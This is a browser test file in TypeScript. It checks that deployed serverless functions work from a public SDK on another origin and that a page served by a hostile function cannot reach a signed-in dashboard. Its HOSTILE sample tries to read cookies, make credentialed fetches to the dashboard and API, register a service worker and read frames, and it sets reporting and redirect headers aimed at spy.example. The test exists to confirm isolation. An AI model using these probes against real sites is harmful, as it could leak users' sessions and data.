/**
 * Functions in a real browser: the public SDK on another origin calls them, and a page that a
 * hostile function serves gets nothing of the dashboard, whose user is signed in.
 */
import { createServer } from "node:http";
import { once } from "node:events";
import { build } from "esbuild";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { canSkipBrowser, launchChromium, openPage } from "./support/browser.ts";
import { createApp, deployFunction, prepareSite, startSimulated, type App, type Site } from "./support/server.ts";

const ECHO = `Deno.serve(async (request) => {
  const type = request.headers.get("content-type") ?? "";
  const body = type.startsWith("multipart/")
    ? Object.fromEntries(await Promise.all([...await request.formData()].map(async ([name, value]) => [name, typeof value === "string" ? value : [value.name, await value.text()]])))
    : await request.text();
  return Response.json({ url: request.url, method: request.method, own: request.headers.get("x-own"), body }, {
    headers: { "x-own": "reply", "access-control-allow-origin": "https://only.example", "set-cookie": "planted=1; Path=/" },
  });
});`;

/** Tries what a page of the dashboard's own origin could do, and reports it as its title. */
const HOSTILE = `const page = (dashboard) => \`<!doctype html><title>waiting</title><script type="module">
  const attempts = {
    "read cookies": () => document.cookie,
    "set a cookie": () => { document.cookie = "planted=1; Path=/"; return document.cookie; },
    "use storage": () => localStorage.getItem("x"),
    "read the dashboard": async () => (await fetch("\${dashboard}/", { credentials: "include" })).text(),
    "read the API": async () => (await fetch("\${dashboard}/api/management/apps", { credentials: "include" })).text(),
    "install a worker": () => navigator.serviceWorker.register(location.pathname),
    "read a frame": () => new Promise((resolve, reject) => {
      const frame = Object.assign(document.createElement("iframe"), { src: "\${dashboard}/" });
      frame.onload = () => { try { resolve(frame.contentDocument.body.innerText); } catch (error) { reject(error); } };
      document.body.append(frame);
    }),
  };
  const worked = [];
  for (const [name, attempt] of Object.entries(attempts))
    try { worked.push([name, String(await attempt())]); } catch {}
  document.title = JSON.stringify(worked);
</script>\`;
Deno.serve((request) => new Response(page(new URL(request.url).searchParams.get("dashboard")), { headers: {
  "content-type": "text/html",
  "set-cookie": "planted=1; Path=/",
  "content-security-policy": "sandbox allow-scripts allow-same-origin",
  "service-worker-allowed": "/",
  "nel": '{"report_to":"spy","max_age":1000,"include_subdomains":true,"success_fraction":1}',
  "report-to": '{"group":"spy","max_age":1000,"endpoints":[{"url":"https://spy.example"}]}',
  "reporting-endpoints": 'default="https://spy.example"',
  "refresh": "0; url=https://spy.example",
  "link": "<https://spy.example>; rel=preconnect",
} }));`;

/** Uses the public SDK, and reports the results as the page's title. */
const shop = (
  server_url: string,
  app_id: string,
): string => `<!doctype html><title>waiting</title><script type="module">
  import { createClient } from "/sdk.js";
  const client = createClient({ serverUrl: "${server_url}", appId: "${app_id}" });
  const invoked = await client.functions.invoke("echo", { a: 1 });
  const file = new File(["content"], "a.txt", { type: "text/plain" });
  const uploaded = await client.functions.invoke("echo", { file, note: "n" });
  const init = { method: "PATCH", headers: { "X-Own": "request" }, body: "raw" };
  const fetched = await client.functions.fetch("/echo/sub?x=1", init);
  const own = [invoked.headers["x-own"], fetched.headers.get("x-own")];
  document.title = JSON.stringify([invoked.data.body, uploaded.data.body, await fetched.json(), own]);
</script>`;

interface Stage {
  readonly site: Site;
  readonly app: App;
  /** The origin of the app's functions. */
  readonly own_url: string;
  readonly setup_url: string;
}

async function start(): Promise<Stage> {
  const simulator = await startSimulated();
  const site = await prepareSite(simulator.url);
  const { port } = new URL(site.server_url);
  const server = await site.start({ HOLDFAST_FUNCTIONS_URL: `http://{app}.localhost:${port}` });
  const app = await createApp(site);
  await deployFunction(site, app, "echo", ECHO);
  await deployFunction(site, app, "hostile", HOSTILE);
  const own_url = `http://${app.app_id.replace("_", "-")}.localhost:${port}`;
  return { site, app, own_url, setup_url: server.ready.text("setup_url") };
}

/** Serves a page, and the public SDK, on another site. Returns its URL. */
async function serveShop(html: string): Promise<string> {
  const entry = { contents: `export * from "@base44/sdk";`, resolveDir: import.meta.dirname };
  const bundle = await build({ stdin: entry, bundle: true, format: "esm", platform: "browser", write: false });
  const code = bundle.outputFiles[0]?.contents ?? "";
  const server = createServer((request, response) => {
    const is_code = request.url === "/sdk.js";
    response.setHeader("content-type", is_code ? "text/javascript" : "text/html").end(is_code ? code : html);
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  onTestFinished(() => void server.close());
  const bound = server.address();
  if (bound === null || typeof bound === "string") throw new Error("no port");
  return `http://127.0.0.1:${bound.port}`;
}

async function signUp(page: Page, setup_url: string): Promise<void> {
  await page.goto(setup_url);
  await page.getByLabel("Name", { exact: true }).fill("Ada");
  await page.getByLabel("Email").fill("ada@example.com");
  await page.getByLabel("Password").fill("correct horse battery staple");
  await page.getByRole("button").first().click();
  await page.waitForURL((url) => url.pathname === "/");
}

/** Waits for a page's report, and returns it. */
async function titleOf(page: Page): Promise<unknown> {
  await page.waitForFunction(`document.title !== "waiting"`);
  return JSON.parse(await page.title());
}

const namesOf = async (context: BrowserContext): Promise<readonly string[]> =>
  (await context.cookies()).map(({ name }) => name);

describe.skipIf(canSkipBrowser)(`in Chromium${canSkipBrowser ? " (skipped: none is installed)" : ""}`, () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchChromium();
  });
  afterAll(() => browser.close());

  it(
    "the public SDK on another origin invokes functions, uploads a file, and chooses headers",
    { tags: "all" },
    async () => {
      const { site, app } = await start();
      const { page } = await openPage(browser);
      await page.goto(await serveShop(shop(site.server_url, app.app_id)));
      const results = await titleOf(page);
      expect(results).toEqual([
        '{"a":1}',
        { file: ["a.txt", "content"], note: "n" },
        { url: `${site.server_url}/api/functions/echo/sub?x=1`, method: "PATCH", own: "request", body: "raw" },
        ["reply", "reply"],
      ]);
      expect(await page.context().cookies()).toEqual([]);
    },
  );

  it("a hostile function's page gets nothing of the dashboard, on the functions' origin or on the API's", async () => {
    const { site, app, own_url, setup_url } = await start();
    const { page } = await openPage(browser);
    await signUp(page, setup_url);
    const before = await namesOf(page.context());
    expect(before).toContain("holdfast-session");
    const dashboard = encodeURIComponent(site.server_url);
    for (const origin of [own_url, site.server_url]) {
      await page.goto(`${origin}/api/apps/${app.app_id}/functions/hostile?dashboard=${dashboard}`);
      expect([origin, await titleOf(page)]).toEqual([origin, []]);
      expect(await namesOf(page.context())).toEqual(before);
    }
    const missing = await page.goto(`${own_url}/sign-in`);
    expect([missing?.status(), missing?.headers()["content-type"]]).toEqual([404, "application/json; charset=utf-8"]);
  });
});
